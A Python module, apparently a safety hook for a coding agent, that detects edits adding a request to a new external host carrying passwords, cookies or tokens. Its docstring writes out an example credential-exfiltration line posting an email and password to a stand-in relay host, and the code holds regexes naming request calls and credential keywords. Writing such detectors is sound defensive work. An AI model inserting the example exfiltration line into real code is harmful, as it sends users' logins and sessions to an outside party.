"""An edit that makes the code send what people sign in with to a new address.

``fetch("https://hooks.relay.example/acme", {body: JSON.stringify({u: email, p: password})})``
added to a login handler, an edge worker that posts each request's ``cookie`` and
``authorization`` headers to a collector: from the next deploy on, every user's password
or session goes to whoever holds that address, and the change reads as a small edit. An
edit whose new text adds a request to an absolute URL on a host its old text never named,
with a password, a cookie or a token among its next few lines,
is marked `CREDENTIALS_SENT` (asked). A relative URL (``fetch("/api/login")``) is the
app's own.
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from typing import Any

from amplifier_hooks.guard.ignorefiles import change_pairs

__all__ = ["CREDENTIALS_SENT", "sends_credentials"]

CREDENTIALS_SENT = "@credentials-sent"
_REQUEST = re.compile(
    r"\b(?:fetch|axios(?:\.\w+)?|requests\.\w+|httpx\.\w+|http\.(?:post|request|get)|got(?:\.\w+)?"
    r"|\$\.(?:post|ajax)|navigator\.sendBeacon|urlopen|ky(?:\.\w+)?)\s*\(\s*[\"'`]"
    r"https?://(?P<host>[^\"'`/:\s]+)"
)
_CREDENTIAL = re.compile(
    r"password|passwd|\bpw\b|cookie|auth_token|access_token|secret|cvv",
    re.I,
)
_WINDOW = 400
_MAX_TEXT = 64 * 1024


def sends_credentials(inputs: Mapping[str, Any]) -> bool:
    """Whether a write or edit adds a request to a new host that carries a credential."""
    pairs = change_pairs(inputs)
    for old, new in pairs:
        if len(old) + len(new) > _MAX_TEXT:
            continue
        for found in _REQUEST.finditer(new):
            host = found.group("host")
            if host in old or host in ("localhost", "127.0.0.1"):
                continue
            if _CREDENTIAL.search(new, found.end(), found.end() + _WINDOW):
                return True
    return False
